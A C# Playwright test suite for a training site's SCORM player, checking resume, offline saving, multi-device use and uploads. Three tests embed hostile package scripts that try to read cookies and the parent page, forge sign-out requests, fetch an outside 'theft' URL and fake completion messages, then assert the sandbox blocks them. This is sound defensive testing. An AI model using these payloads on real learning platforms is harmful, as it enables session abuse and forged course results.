using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;
using TrainingSite.Courses.Models;
using TrainingSite.Courses.Scorm;
using TrainingSite.SiteTests.Courses.Scorm;

namespace TrainingSite.BrowserTests;

/// <summary>SCORM packages in a phone's browser: they speak with the site through one message, and reach nothing else.</summary>
[Collection(BrowserCollection.Name)]
public sealed class PackageTests(BrowserSite site)
{
    /// <summary>Browsers know each name under .localhost as the machine itself.</summary>
    private const string Host = "goi.localhost";

    [Theory]
    [InlineData("1.2")]
    [InlineData("2004")]
    public async Task Package_LeftAndOpenedAgain_GoesOnAndCompletes(string edition)
    {
        var (course, lesson) = await PublishAsync(edition == "1.2" ? SamplePackages.Scorm12() : SamplePackages.Scorm2004());
        var phone = await site.OpenAsAsync("member", phone: true);
        var problems = new List<string>();
        phone.PageError += (_, error) => problems.Add(error);
        await phone.GotoAsync($"/courses/{course}/{lesson}");
        await BrowserSite.AssertAccessibleAsync(phone);
        await phone.ClickAsync(".btn:has-text('Mở gói học')");
        var part = phone.FrameLocator("#player-frame");
        await Assertions.Expect(part.Locator("#status")).ToHaveTextAsync("incomplete");
        Assert.NotEqual("", await part.Locator("#name").InnerTextAsync());
        await BrowserSite.AssertAccessibleAsync(phone);
        Assert.True((await phone.Locator("#player-frame").BoundingBoxAsync())!.Height >= 420);

        await phone.Context.SetOfflineAsync(true);
        await part.Locator("#turn").ClickAsync();
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Chưa gửi được.");
        await phone.Context.SetOfflineAsync(false);
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Đã lưu lúc");

        await phone.ReloadAsync();
        await Assertions.Expect(part.Locator("#place")).ToHaveTextAsync("trang-2");
        await Assertions.Expect(part.Locator("#memory")).ToHaveTextAsync("nhớ: đã xem trang 1");
        await part.Locator("#finish").ClickAsync();
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Bạn đã xong bài này.");

        await phone.ClickAsync("text=Về bài học");
        Assert.Contains("Xong", await phone.InnerTextAsync("section[aria-labelledby=package]"), StringComparison.Ordinal);
        await BrowserSite.AssertAccessibleAsync(phone);
        await phone.GotoAsync($"/courses/{course}");
        Assert.Contains("Bạn đã hoàn thành khóa học này", await phone.InnerTextAsync("main"), StringComparison.Ordinal);
        var state = await site.QueryAsync(db => db.Set<ScormState>().AsNoTracking().Where(row => db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course)).SingleAsync());
        Assert.Equal((90, edition == "1.2" ? 80 : null, edition == "1.2" ? null : 0.9), (state.SessionSeconds, state.ScoreRaw, state.ScoreScaled));
        Assert.Empty(problems);
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_OfSeveralPages_KeepsItsStateBetweenThem()
    {
        var (course, lesson) = await PublishAsync(SamplePackages.WithPages());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");

        await phone.FrameLocator("#player-frame").Locator("a").ClickAsync();

        await Assertions.Expect(phone.FrameLocator("#player-frame").Locator("#memory")).ToHaveTextAsync("từ trang một");
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Bạn đã xong bài này.");
        await phone.Context.CloseAsync();
    }

    [Theory]
    [InlineData(false, false)]
    [InlineData(true, false)]
    [InlineData(false, true)]
    public async Task Package_Left_SaysItsLastWord(bool byBack, bool hasHost)
    {
        using var host = hasHost ? HostOfItsOwn() : null;
        var (course, lesson) = await PublishAsync(SamplePackages.WithLastWord());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}");
        await phone.ClickAsync(".btn:has-text('Mở gói học')");
        await Assertions.Expect(phone.FrameLocator("#player-frame").Locator("#status")).ToHaveTextAsync("begun");

        if (byBack)
        {
            await phone.EvaluateAsync("history.back()");
        }
        else
        {
            await phone.ClickAsync("text=Về bài học");
        }

        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}");
        await phone.ReloadAsync();
        await Assertions.Expect(phone.Locator("section[aria-labelledby=package]")).ToContainTextAsync("Xong");
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_OpenedOnTwoDevices_SavesFromTheLater()
    {
        var (course, lesson) = await PublishAsync(SamplePackages.Scorm12());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        await Assertions.Expect(phone.FrameLocator("#player-frame").Locator("#status")).ToHaveTextAsync("incomplete");
        var desk = await site.OpenAsAsync("member", phone: false);
        await desk.GotoAsync($"/courses/{course}/{lesson}/package/1");
        await Assertions.Expect(desk.FrameLocator("#player-frame").Locator("#status")).ToHaveTextAsync("incomplete");

        await phone.FrameLocator("#player-frame").Locator("#turn").ClickAsync();

        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("mở ở nơi khác");
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.FrameLocator("#player-frame").Locator("#turn").ClickAsync();
        await Assertions.Expect(desk.Locator("#player-line")).ToContainTextAsync("Đã lưu lúc");
        await phone.Context.CloseAsync();
        await desk.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_Hostile_ReachesNothingOfTheSite()
    {
        const string Attack = """
            <!DOCTYPE html><html lang="vi"><meta charset="utf-8"><title>Gói xấu</title><body><h1>Gói xấu</h1><script>
            const site = location.origin;
            const failed = (error) => error.name;
            const attempt = (action) => { try { return String(action()); } catch (error) { return failed(error); } };
            const ask = (address, options) => fetch(site + address, { credentials: 'include', ...options }).then((answer) => answer.text()).then((words) => 'read ' + words.length, failed);
            (async () => {
              const found = {
                origin: self.origin,
                topDocument: attempt(() => window.top.document.title),
                parentDocument: attempt(() => window.parent.document.title),
                frameElement: attempt(() => String(window.frameElement)),
                cookie: attempt(() => document.cookie),
                stored: attempt(() => localStorage.length),
                read: await ask('/me'),
                post: await ask('/account/sign-out', { method: 'POST' }),
                postBlind: await ask('/courses/edit/new', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ a: 1 }) }),
                elsewhere: await fetch('https://vi-du.vn/?an-cap', { mode: 'no-cors' }).then(() => 'sent', failed),
                picture: await new Promise((done) => { const picture = new Image(); picture.onload = () => done('loaded'); picture.onerror = () => done('blocked'); picture.src = site + '/themes/community/dist/img/mark.svg'; }),
                opened: attempt(() => window.open('/me')),
                worker: attempt(() => new Worker(site + '/sw.js')),
              };
              try { window.top.location = site + '/account/sign-in'; found.top = 'went'; } catch (error) { found.top = failed(error); }
              const form = document.createElement('form');
              form.method = 'post'; form.action = site + '/account/sign-out'; form.target = '_top';
              document.body.append(form);
              form.submit();
              const inner = document.createElement('iframe');
              inner.src = site + '/me';
              document.body.append(inner);
              // A frame of its own speaks in the package's name; so does a message that is no number of ours.
              const liar = document.createElement('iframe');
              liar.srcdoc = '<script>top.postMessage({ scorm: { status: "passed" } }, "*")<' + '/script>';
              document.body.append(liar);
              window.top.postMessage({ scorm: { status: ['passed'], location: { x: 1 }, score_raw: 'NaN', suspend_data: 7 } }, '*');
              await new Promise((done) => setTimeout(done, 500));
              const words = document.createElement('p');
              words.id = 'found'; words.textContent = JSON.stringify(found);
              document.body.append(words);
              document.body.dataset.go = '1';
              addEventListener('click', () => { location = site + '/me'; });
            })();
            </script>
            """;
        var (course, lesson) = await PublishAsync(SamplePackages.WithPage(Attack));
        var phone = await site.OpenAsAsync("member", phone: true);
        var asked = new List<string>();
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        phone.Request += (_, request) => asked.Add($"{request.Method} {new Uri(request.Url).PathAndQuery}");
        var found = JsonSerializer.Deserialize<Dictionary<string, string>>(await phone.FrameLocator("#player-frame").Locator("#found").InnerTextAsync())!;

        Assert.Equal("null", found["origin"]);
        Assert.Equal("SecurityError", found["topDocument"]);
        Assert.Equal("TypeError", found["parentDocument"]);
        Assert.Equal("null", found["frameElement"]);
        Assert.Equal(("", "0"), (found["cookie"], found["stored"]));
        Assert.Equal(("TypeError", "TypeError", "TypeError", "TypeError"), (found["read"], found["post"], found["postBlind"], found["elsewhere"]));
        Assert.Equal(("blocked", "null", "SecurityError", "SecurityError"), (found["picture"], found["opened"], found["worker"], found["top"]));
        Assert.EndsWith($"/courses/{course}/{lesson}/package/1", phone.Url);
        Assert.DoesNotContain(asked, request => request.Contains("/me", StringComparison.Ordinal) || request.Contains("sign-", StringComparison.Ordinal) || request.Contains("/edit/", StringComparison.Ordinal));
        Assert.False(await site.QueryAsync(db => db.Set<ScormState>().AnyAsync(row => row.DoneUtc != null && db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course))));

        // The frame that goes to a page of the site does not get it: no page lets itself be framed.
        await phone.FrameLocator("#player-frame").Locator("h1").ClickAsync();
        await phone.WaitForTimeoutAsync(1_000);
        var inside = phone.Frames.Single(frame => frame.ParentFrame == phone.MainFrame);
        Assert.DoesNotContain("Lò", await inside.EvaluateAsync<string>("document.documentElement.textContent"), StringComparison.Ordinal);
        await phone.GotoAsync("/today");
        Assert.EndsWith("/today", phone.Url);
        await phone.Context.CloseAsync();
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Package_OfFrames_CallsThroughThemUnderItsOwnHost(bool hasHost)
    {
        using var host = hasHost ? HostOfItsOwn() : null;
        var (course, lesson) = await PublishAsync(SamplePackages.WithFrames());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        var part = phone.FrameLocator("#player-frame");
        var found = part.FrameLocator("#inside").Locator("#found");
        if (!hasHost)
        {
            // Without an origin its pages cannot see each other, and no window opens.
            await Assertions.Expect(found).ToHaveTextAsync("SecurityError null");
            await phone.Context.CloseAsync();
            return;
        }

        await Assertions.Expect(found).ToHaveTextAsync("incomplete 1");
        var window = await phone.Context.RunAndWaitForPageAsync(() => part.FrameLocator("#inside").Locator("#more").ClickAsync());
        await window.ClickAsync("#done");

        await Assertions.Expect(part.Locator("#said")).ToHaveTextAsync("recorded 90");
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Bạn đã xong bài này.");
        await BrowserSite.AssertAccessibleAsync(phone);
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_HostileUnderItsOwnHost_ReachesNothingOfTheSite()
    {
        using var host = HostOfItsOwn();
        var attack = """
            <!DOCTYPE html><html lang="vi"><meta charset="utf-8"><title>Gói xấu</title><body><h1>Gói xấu</h1><script>
            const failed = (error) => error.name;
            const attempt = (action) => { try { return String(action()); } catch (error) { return failed(error); } };
            const ask = (address, options) => fetch(address, { credentials: 'include', ...options }).then((answer) => answer.status, failed);
            (async () => {
              const found = {
                origin: self.origin,
                topDocument: attempt(() => window.top.document.title),
                frameElement: attempt(() => String(window.frameElement)),
                stored: attempt(() => localStorage.length),
                read: await ask('SITE/me'),
                postBlind: await ask('SITE/account/sign-out', { method: 'POST', mode: 'no-cors' }),
                own: await ask('/me'),
                worker: await navigator.serviceWorker.register('index.html').then(() => 'registered', failed),
                top: attempt(() => { window.top.location = 'SITE/account/sign-in'; return 'went'; }),
              };
              for (const address of ['SITE/me', '/me']) { const inner = document.createElement('iframe'); inner.src = address; document.body.append(inner); }
              const form = document.createElement('form');
              form.method = 'post'; form.action = 'SITE/account/sign-out'; form.target = 'elsewhere';
              document.body.append(form);
              form.submit();
              window.top.postMessage({ go: { to: 'constructor' } }, '*');
              window.top.postMessage({ go: { to: 'choice', target: 'SITE/account/sign-in' } }, '*');
              window.top.postMessage({ scorm: { status: ['passed'] } }, '*');
              await new Promise((done) => setTimeout(done, 500));
              const words = document.createElement('p');
              words.id = 'found'; words.textContent = JSON.stringify(found);
              document.body.append(words);
            })();
            </script>
            """.Replace("SITE", site.Address.GetLeftPart(UriPartial.Authority), StringComparison.Ordinal);
        var (course, lesson) = await PublishAsync(SamplePackages.WithPage(attack));
        var phone = await site.OpenAsAsync("member", phone: true);
        var asked = new List<string>();
        phone.Context.Request += (_, request) => asked.Add($"{request.Method} {request.Url}");
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        var found = JsonSerializer.Deserialize<Dictionary<string, object>>(await phone.FrameLocator("#player-frame").Locator("#found").InnerTextAsync())!.ToDictionary(row => row.Key, row => row.Value.ToString());

        Assert.Equal($"http://{Host}:{site.Address.Port}", found["origin"]);
        Assert.Equal(("SecurityError", "null", "0"), (found["topDocument"], found["frameElement"], found["stored"]));
        Assert.Equal(("TypeError", "TypeError", "TypeError"), (found["read"], found["postBlind"], found["own"]));
        Assert.Equal(("TypeError", "SecurityError"), (found["worker"], found["top"]));
        Assert.EndsWith($"/courses/{course}/{lesson}/package/1", phone.Url);
        Assert.DoesNotContain(asked, request => request.EndsWith("/me", StringComparison.Ordinal) || request.Contains("sign-", StringComparison.Ordinal));
        Assert.False(await site.QueryAsync(db => db.Set<ScormState>().AnyAsync(row => row.DoneUtc != null && db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course))));
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_OfTheSameHostThatOpensAnother_HasNoHoldOnIt()
    {
        using var host = HostOfItsOwn();
        var (course, lesson) = await PublishAsync(SamplePackages.Scorm12("Bị nhắm tới"));
        var player = new Uri(site.Address, $"courses/{course}/{lesson}/package/1");
        var (other, own) = await PublishAsync(SamplePackages.WithPage($$"""
            <!DOCTYPE html><html lang="vi"><meta charset="utf-8"><title>Gói xấu</title><button id="go">Mở</button><p id="found"></p><script>
            document.getElementById('go').addEventListener('click', () => {
              const opened = window.open('{{player}}');
              setTimeout(() => {
                let found;
                try { found = `${opened.closed} ${opened.length} ${opened.length > 0 && opened[0].API?.LMSSetValue('cmi.core.lesson_status', 'passed')}`; } catch (error) { found = error.name; }
                document.getElementById('found').textContent = found;
              }, 3000);
            });
            </script>
            """));
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{other}/{own}/package/1");
        var opened = await phone.Context.RunAndWaitForPageAsync(() => phone.FrameLocator("#player-frame").Locator("#go").ClickAsync());
        await Assertions.Expect(opened.FrameLocator("#player-frame").Locator("#status")).ToHaveTextAsync("incomplete");

        await Assertions.Expect(phone.FrameLocator("#player-frame").Locator("#found")).ToHaveTextAsync("true 0 false");
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_ThatLeadsOnItself_IsFollowed()
    {
        var (course, lesson) = await PublishAsync(SamplePackages.WithMoves());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        var part = phone.FrameLocator("#player-frame");
        await Assertions.Expect(part.Locator("#valid")).ToHaveTextAsync("true false true false");

        await part.Locator("#continue").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}/package/2");
        await Assertions.Expect(part.Locator("#valid")).ToHaveTextAsync("false true true false");
        await part.Locator("#previous").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}/package/1");
        await part.Locator("#choose").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}/package/2");
        await part.Locator("#suspendAll").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}");
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/2");
        await part.Locator("#exitAll").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}");

        await Assertions.Expect(phone.Locator("section[aria-labelledby=package]")).ToContainTextAsync("Xong");
        Assert.Equal(2, await site.QueryAsync(db => db.Set<ScormState>().CountAsync(row => row.DoneUtc != null && db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course))));
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_BroughtInAtADesk_CanBeLookedAtFirst()
    {
        var desk = await site.OpenAsAsync("so.organizer", phone: false);
        var course = await DraftAsync(desk);
        await desk.ClickAsync("text=Nhập gói SCORM");
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.SetInputFilesAsync("#File", new FilePayload { Name = "goi.zip", MimeType = "application/zip", Buffer = SamplePackages.Zip(("a.txt", "x")) });
        await desk.ClickAsync(".action-bar .btn-primary");
        await desk.Locator(".error-summary", new() { HasText = "imsmanifest.xml" }).WaitForAsync();
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.SetInputFilesAsync("#File", new FilePayload { Name = "goi.zip", MimeType = "application/zip", Buffer = SamplePackages.WithParts() });
        await desk.ClickAsync(".action-bar .btn-primary");
        await desk.WaitForURLAsync($"**/courses/edit/{course}/lessons/ba-phan");
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.ClickAsync("text=Xem thử gói");
        await Assertions.Expect(desk.Locator("#player-line")).ToContainTextAsync("Xem thử: không lưu gì.");
        await BrowserSite.AssertAccessibleAsync(desk);
        Assert.False(await site.QueryAsync(db => db.Set<ScormState>().AnyAsync(row => db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course))));
        await desk.Context.CloseAsync();
    }

    /// <summary>A host name of their own for packages, until it is put back.</summary>
    private Restored HostOfItsOwn()
    {
        var options = site.Services.GetRequiredService<IOptions<ScormOptions>>().Value;
        options.Host = Host;
        return new(() => options.Host = "");
    }

    private sealed class Restored(Action restore) : IDisposable
    {
        public void Dispose() => restore();
    }

    /// <summary>A published course whose lesson is a package.</summary>
    private async Task<(string Course, string Lesson)> PublishAsync(byte[] zip)
    {
        var desk = await site.OpenAsAsync("so.organizer", phone: false);
        var course = await DraftAsync(desk);
        await desk.GotoAsync($"/courses/edit/{course}/packages/new");
        await desk.SetInputFilesAsync("#File", new FilePayload { Name = "goi.zip", MimeType = "application/zip", Buffer = zip });
        await desk.ClickAsync(".action-bar .btn-primary");
        await desk.WaitForURLAsync("**/lessons/*");
        var lesson = desk.Url.Split('/')[^1];
        await desk.GotoAsync($"/courses/edit/{course}");
        await desk.ClickAsync("text=Đăng khóa học");
        await desk.Locator(".toast-line", new() { HasText = "Đã đăng" }).WaitForAsync();
        await desk.Context.CloseAsync();
        return (course, lesson);
    }

    /// <summary>A draft whose one condition is that its lessons are finished.</summary>
    private static async Task<string> DraftAsync(IPage desk)
    {
        await desk.GotoAsync("/courses/edit/new");
        await desk.FillAsync("#Form_Title", $"Khóa có gói {Guid.NewGuid().ToString("N")[..6]}");
        await desk.SelectOptionAsync("#Form_TopicCode", "T7");
        await desk.FillAsync("#Form_Summary", "Một khóa để thử");
        await desk.UncheckAsync("#Form_QuizRequired");
        await desk.UncheckAsync("#Form_AttendanceRequired");
        await desk.CheckAsync("#Form_LessonsRequired");
        await desk.ClickAsync(".action-bar .btn-primary");
        await desk.Locator(".toast-line", new() { HasText = "Đã tạo bản nháp" }).WaitForAsync();
        return desk.Url.Split('/')[^1];
    }
}
